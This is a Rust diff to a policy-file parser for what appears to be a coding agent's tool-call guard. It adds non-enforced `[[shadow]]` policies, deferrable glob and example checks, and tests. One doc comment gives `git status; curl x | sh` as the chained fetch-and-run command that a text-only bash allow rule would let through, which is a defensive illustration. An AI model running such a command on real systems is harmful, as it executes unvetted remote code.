@@ -1,7 +1,6 @@
 //! Policy files: TOML in, a validated `Policy` out, or a one-line error
 //! naming the file, the rule and the problem. Never a silent fallback.
 
-use globset::GlobBuilder;
 use regex::RegexSet;
 use serde::Deserialize;
 
@@ -175,13 +174,17 @@ fn check_examples(
     Ok(())
 }
 
-/// Whether `parse` checks the rules' inline examples.
+/// What `parse` checks beyond the policy's shape.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(super) enum Examples {
-    Check,
-    /// Only for the built-in policy, whose examples a test checks: it is
-    /// parsed on every call, and the parse should cost as little as it can.
-    Skip,
+pub(super) enum Checks {
+    /// Every glob compiles and every inline example holds.
+    Now,
+    /// Left for later: a policy is parsed on every call and the parse should
+    /// cost as little as it can. Only for the built-in policy (a test checks
+    /// it) and a policy whose text the log has recorded (it passed when it
+    /// was first used, and its digest pins the text); `Policy::check_deferred`
+    /// runs the checks for any other.
+    Deferred,
 }
 
 /// One `[[paths]]` entry: which arguments of which tools are paths.
@@ -212,9 +215,7 @@ fn path_arguments(specs: Vec<PathsFile>) -> Result<Vec<super::PathArguments>, St
                 return Err(at("an argument name must not be empty"));
             }
             Ok(super::PathArguments {
-                tools: globs("tools", spec.tools, false)
-                    .map_err(|e| at(&e))?
-                    .compiled,
+                tools: globs("tools", spec.tools, false).map_err(|e| at(&e))?,
                 read: spec.read,
                 write: spec.write,
             })
@@ -258,13 +259,39 @@ fn redact_settings(spec: RedactFile) -> Result<super::RedactSettings, String> {
 }
 
 /// A policy file's name, its rules (each labelled by its id, else its
-/// place, and read or the reason it could not be), and its `[redact]` table.
+/// place, and read or the reason it could not be), its `[redact]` table and
+/// its `[[shadow]]` entries.
 type Read = (
     String,
     Vec<(String, Result<RuleFile, String>)>,
     super::RedactSettings,
+    Vec<ShadowSpec>,
     Vec<PathsFile>,
 );
+
+/// A `[[shadow]]` entry: a policy decided beside this one on every live
+/// call, never enforced. `path` is relative to this policy's folder.
+#[derive(Deserialize, Debug, Clone, PartialEq, Eq)]
+#[serde(deny_unknown_fields)]
+pub struct ShadowSpec {
+    pub name: String,
+    pub path: String,
+}
+
+fn check_shadows(shadows: &[ShadowSpec]) -> Result<(), String> {
+    for (i, shadow) in shadows.iter().enumerate() {
+        if shadow.name.trim().is_empty() || shadow.name.chars().any(char::is_whitespace) {
+            return Err("a `[[shadow]]` needs a `name` without spaces".into());
+        }
+        if shadow.path.trim().is_empty() {
+            return Err(format!("shadow `{}` needs a `path`", shadow.name));
+        }
+        if shadows[..i].iter().any(|s| s.name == shadow.name) {
+            return Err(format!("two shadows are named `{}`", shadow.name));
+        }
+    }
+    Ok(())
+}
 
 /// The whole file as one typed value. A file this reads is read exactly as
 /// [`read_table`] reads it, only faster (no table of values in between:
@@ -281,9 +308,12 @@ fn read_typed(text: &str) -> Option<Read> {
         rules: Vec<RuleFile>,
         redact: Option<RedactFile>,
         #[serde(default)]
+        shadow: Vec<ShadowSpec>,
+        #[serde(default)]
         paths: Vec<PathsFile>,
     }
     let file: PolicyFile = toml::from_str(text).ok()?;
+    check_shadows(&file.shadow).ok()?;
     if file.name.trim().is_empty() {
         return None;
     }
@@ -296,7 +326,7 @@ fn read_typed(text: &str) -> Option<Read> {
         .into_iter()
         .map(|rule| (rule.id.clone(), Ok(rule)))
         .collect();
-    Some((file.name, rules, redact, file.paths))
+    Some((file.name, rules, redact, file.shadow, file.paths))
 }
 
 /// The file read key by key, naming the first problem.
@@ -315,6 +345,7 @@ fn read_table(text: &str, file_error: &dyn Fn(String) -> PolicyError) -> Result<
     let mut name = None;
     let mut raw_rules = Vec::new();
     let mut redact = super::RedactSettings::default();
+    let mut shadows = Vec::new();
     let mut paths = Vec::new();
     for (key, value) in table {
         match (key.as_str(), value) {
@@ -324,6 +355,11 @@ fn read_table(text: &str, file_error: &dyn Fn(String) -> PolicyError) -> Result<
             ("rules", toml::Value::Array(rules)) => raw_rules = rules,
             ("rules", _) => return Err(file_error("`rules` must be an array of tables".into())),
             ("redact", value) => redact = parse_redact(value).map_err(file_error)?,
+            ("shadow", value) => {
+                shadows = Vec::<ShadowSpec>::deserialize(value)
+                    .map_err(|e| file_error(format!("[[shadow]]: {}", e.message())))?;
+                check_shadows(&shadows).map_err(file_error)?;
+            }
             ("paths", value) => {
                 paths = Vec::<PathsFile>::deserialize(value)
                     .map_err(|e| file_error(format!("[[paths]]: {}", e.message())))?;
@@ -344,23 +380,27 @@ fn read_table(text: &str, file_error: &dyn Fn(String) -> PolicyError) -> Result<
             (label, spec)
         })
         .collect();
-    Ok((name, rules, redact, paths))
+    Ok((name, rules, redact, shadows, paths))
 }
 
-pub(super) fn parse(
-    text: &str,
-    origin: &str,
-    examples_mode: Examples,
-) -> Result<Policy, PolicyError> {
+pub(super) fn parse(text: &str, origin: &str, checks: Checks) -> Result<Policy, PolicyError> {
     let file_error = |problem: String| PolicyError::File {
         path: origin.to_owned(),
         problem,
     };
-    let (name, specs, redact, paths) = match read_typed(text) {
+    let (name, specs, redact, shadow_specs, paths) = match read_typed(text) {
         Some(read) => read,
         None => read_table(text, &file_error)?,
     };
     let paths = path_arguments(paths).map_err(file_error)?;
+    if checks == Checks::Now {
+        for (index, entry) in paths.iter().enumerate() {
+            entry
+                .tools
+                .check()
+                .map_err(|e| file_error(format!("[[paths]] #{}: {e}", index + 1)))?;
+        }
+    }
 
     let mut rules: Vec<Rule> = Vec::with_capacity(specs.len());
     for (label, spec) in specs {
@@ -372,8 +412,11 @@ pub(super) fn parse(
         let mut spec = spec.map_err(rule_error)?;
         let examples = spec.examples.take();
         let rule = compile(spec).map_err(&rule_error)?;
+        if checks == Checks::Now {
+            rule.check_globs().map_err(&rule_error)?;
+        }
         refuse_text_only_shell_allow(&rule).map_err(&rule_error)?;
-        if let Some(examples) = examples.filter(|_| examples_mode == Examples::Check) {
+        if let Some(examples) = examples.filter(|_| checks == Checks::Now) {
             check_examples(&rule, examples, &paths).map_err(&rule_error)?;
         }
         if rules.iter().any(|r| r.id == rule.id) {
@@ -389,10 +432,13 @@ pub(super) fn parse(
         },
         source: text.to_owned(),
         origin: origin.to_owned(),
-        examples_checked: examples_mode == Examples::Check,
+        checked: checks == Checks::Now,
         rules,
         redact,
         paths,
+        above: Vec::new(),
+        shadow_specs,
+        shadows: Vec::new(),
     })
 }
 
@@ -400,10 +446,7 @@ pub(super) fn parse(
 /// a regex on the text, or a path condition on its redirections, would let
 /// `git status; curl x | sh` through.
 fn refuse_text_only_shell_allow(rule: &Rule) -> Result<(), String> {
-    let applies_to_bash = rule
-        .tools
-        .as_ref()
-        .is_none_or(|t| t.compiled.is_match("bash"));
+    let applies_to_bash = rule.tools.as_ref().is_none_or(|t| t.is_match("bash"));
     let judges_text = rule.command_regex.is_some()
         || rule.path_scope.is_some()
         || rule.path_glob.is_some()
@@ -504,20 +547,11 @@ fn non_empty_list<T>(key: &str, list: &[T]) -> Result<(), String> {
     Ok(())
 }
 
-fn globs(key: &str, written: Vec<String>, paths: bool) -> Result<Patterns<Globs>, String> {
+fn globs(key: &'static str, written: Vec<String>, paths: bool) -> Result<Patterns<Globs>, String> {
     non_empty_list(key, &written)?;
-    let globs = written
-        .iter()
-        .map(|pattern| {
-            GlobBuilder::new(pattern)
-                .literal_separator(paths)
-                .build()
-                .map_err(|e| format!("invalid glob `{pattern}` in `{key}`: {}", e.kind()))
-        })
-        .collect::<Result<Vec<_>, _>>()?;
     Ok(Patterns {
         written,
-        compiled: Globs::new(globs),
+        compiled: Globs::new(key, paths),
     })
 }
 
@@ -550,6 +584,18 @@ mod tests {
                 super::super::CODING_AGENT_POLICY_TOML.to_owned(),
             ),
             ("no rules".to_owned(), "name = \"x\"".to_owned()),
+            (
+                "a shadow".to_owned(),
+                "name = \"x\"\n[[shadow]]\nname = \"next\"\npath = \"next.toml\"\n".to_owned(),
+            ),
+            (
+                "two shadows of one name".to_owned(),
+                "name = \"x\"\n[[shadow]]\nname = \"n\"\npath = \"a\"\n[[shadow]]\nname = \"n\"\npath = \"b\"\n".to_owned(),
+            ),
+            (
+                "a shadow without a path".to_owned(),
+                "name = \"x\"\n[[shadow]]\nname = \"n\"\n".to_owned(),
+            ),
             ("blank name".to_owned(), "name = \" \"".to_owned()),
             (
                 "numeric description".to_owned(),
@@ -603,7 +649,7 @@ mod tests {
                 // Left to the table reader, which must find what is wrong:
                 // in the file, or in one of its rules.
                 None => assert!(
-                    table.map_or(true, |(_, rules, _, _)| rules
+                    table.map_or(true, |(_, rules, _, _, _)| rules
                         .iter()
                         .any(|(_, r)| r.is_err())),
                     "{name}: only the table reader reads it"
